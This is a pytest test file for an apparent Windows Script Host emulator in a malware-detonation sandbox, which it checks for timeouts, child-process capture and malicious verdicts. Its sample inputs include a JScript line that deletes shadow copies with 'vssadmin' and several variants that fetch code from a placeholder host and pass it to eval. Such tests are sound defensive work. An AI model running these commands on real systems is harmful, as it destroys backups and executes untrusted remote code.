"""The environment `wsh`: what ends a run early."""

from __future__ import annotations

import os
import signal
import subprocess
from concurrent.futures import ThreadPoolExecutor

import pytest

from gateway.emulation import Budget, Detonation, Sample, StopKind
from gateway.emulation.scripts import ScriptEnvironment, wsh_environment
from gateway.model import Verdict
from gateway.sandbox.blocking import BlockingGuests
from tests.unit.emulation.judging import BUDGET, expect_stopped, ran, verdict_of


def _run(wsh: ScriptEnvironment, kind: str, text: str, budget: Budget = BUDGET) -> Detonation:
    return ran(wsh, f"s.{kind}", kind, text, budget)


@pytest.mark.parametrize(
    ("kind", "text", "stop"),
    [
        ("javascript", "while (true) {}", StopKind.TIMED_OUT),
        ("javascript", "var s = 'x'; while (true) s += s + new Array(9).join(s);", StopKind.MEMORY),
        ("vbscript", "Do : Loop", StopKind.TIMED_OUT),
        ("vbscript", 'x = "a" : Do : x = x & x : Loop', StopKind.MEMORY),
        ("vbscript", 'Set x = CreateObject("No.Such")', StopKind.INCOMPLETE),
        ("vbscript", "If If If", StopKind.INCOMPLETE),
        ("javascript", "var = ;", StopKind.INCOMPLETE),
    ],
)
def test_what_was_not_seen_to_its_end_is_never_clean(
    wsh: ScriptEnvironment, kind: str, text: str, stop: StopKind
) -> None:
    result = _run(wsh, kind, text, Budget(seconds=1.5))
    expect_stopped(result, stop)


def test_seen_before_the_kill_is_kept_andjudged(wsh: ScriptEnvironment) -> None:
    text = "new ActiveXObject('WScript.Shell').Run('vssadmin delete shadows /all'); while (1) {}"
    result = _run(wsh, "javascript", text, Budget(seconds=1.0))
    expect_stopped(result, StopKind.TIMED_OUT)
    assert verdict_of(result) is Verdict.MALICIOUS


def test_a_script_that_waits_does_not_keep_us_waiting(wsh: ScriptEnvironment) -> None:
    text = "var t = new Date(); while (new Date() - t < 600000) {} WScript.Sleep(900000); WScript.Quit(7);"
    result = _run(wsh, "javascript", text)
    assert result.exit_status == 7
    assert result.seconds < 5


def test_command_lines_are_handed_on_as_children(wsh: ScriptEnvironment) -> None:
    text = (
        'Set s = CreateObject("WScript.Shell")\n'
        's.Run "cmd /c echo hi"\n'
        's.Run "powershell -enc ZQBjAGgAbwAgAGgAaQA="\n'
        'CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\\Windows\\Temp\\a.txt").Write "x"'
    )
    children = {child.path: child.data for child in _run(wsh, "vbscript", text).children}
    assert children["command-1.bat"] == b"cmd /c echo hi"
    assert children["command-2.ps1"] == b"echo hi"
    assert children["C:\\Windows\\Temp\\a.txt"] == b"x"


def test_quitting_passes_every_handler(wsh: ScriptEnvironment) -> None:
    result = _run(wsh, "javascript", "try { WScript.Quit(3); } catch (e) {} WScript.Echo('on');")
    assert (result.exit_status, result.output) == (3, b"")


def test_scripts_for_node_are_left_to_it(wsh: ScriptEnvironment) -> None:
    node = Sample("a.js", "javascript", b"const fs = require('fs');\nfs.readdirSync('.');\n")
    windows = Sample("a.js", "javascript", b"var x = new ActiveXObject('WScript.Shell');")
    assert "node" in wsh.unsupported(node)
    assert wsh.unsupported(windows) == ""


def test_detonations_at_once_do_not_mix(wsh: ScriptEnvironment) -> None:
    def one(number: int) -> bytes:
        return _run(wsh, "vbscript", f"WScript.Echo {number}").output

    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(one, range(12))) == [str(number).encode() for number in range(12)]


def test_a_zygote_that_is_gone_is_replaced() -> None:
    guests = BlockingGuests()
    wsh = wsh_environment(guests)
    try:
        assert _run(wsh, "vbscript", "WScript.Echo 1").output == b"1"
        host = guests.host_pid
        between = subprocess.run(
            ["pgrep", "-P", str(host)], capture_output=True, text=True, check=True
        ).stdout.split()
        for pid in between:
            os.kill(int(pid), signal.SIGKILL)
        os.kill(host, signal.SIGKILL)
        assert _run(wsh, "vbscript", "WScript.Echo 2").output == b"2"
    finally:
        guests.close()


_ASKED = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example/', false); x.send(); "


@pytest.mark.parametrize(
    "use",
    [
        "this['eval'](x.responseText);",
        "var e = eval; e(x.responseText);",
        "eval('eval(x.responseText)');",
        "[x.responseText].forEach(eval);",
        "(0, eval)(x.responseText);",
    ],
)
def test_code_of_the_network_is_heard_however_it_is_run(wsh: ScriptEnvironment, use: str) -> None:
    assert verdict_of(_run(wsh, "javascript", _ASKED + use)) is Verdict.MALICIOUS


def test_data_of_the_network_is_no_code(wsh: ScriptEnvironment) -> None:
    text = _ASKED + "var data = eval('(' + x.responseText + ')'); WScript.Echo(data);"
    assert verdict_of(_run(wsh, "javascript", text)) is Verdict.CLEAN


def test_plain_eval_sees_the_variables_of_its_function(wsh: ScriptEnvironment) -> None:
    text = "function f() { var q = 5; return eval('q + eval(\"q\")'); } WScript.Echo(f());"
    assert _run(wsh, "javascript", text).output == b"10"


def test_languages_of_one_job_share_their_variables(wsh: ScriptEnvironment) -> None:
    job = """<job><script language="VBScript">Word = "from Basic"</script>
<script language="JScript">WScript.Echo(Word); var more = "and back"; Word = 7;</script>
<script language="VBScript">WScript.Echo more, Word</script></job>"""
    assert _run(wsh, "wsf", job).output == b"from Basic\r\nand back 7"


def test_objects_of_own_classes_end(wsh: ScriptEnvironment) -> None:
    text = """Class K
Private Sub Class_Terminate() : WScript.Echo "ended" : End Sub
End Class
Set a = New K : Set b = New K : Set a = Nothing : WScript.Echo "last" """
    assert _run(wsh, "vbscript", text).output == b"ended\r\nlast\r\nended"


def test_a_file_that_is_deleted_again_is_handed_back(wsh: ScriptEnvironment) -> None:
    text = (
        'Set f = CreateObject("Scripting.FileSystemObject")\n'
        'f.CreateTextFile("C:\\Windows\\Temp\\a.vbs").Write "x"\n'
        'f.DeleteFile "C:\\Windows\\Temp\\a.vbs"'
    )
    assert [child.data for child in _run(wsh, "vbscript", text).children] == [b"x"]
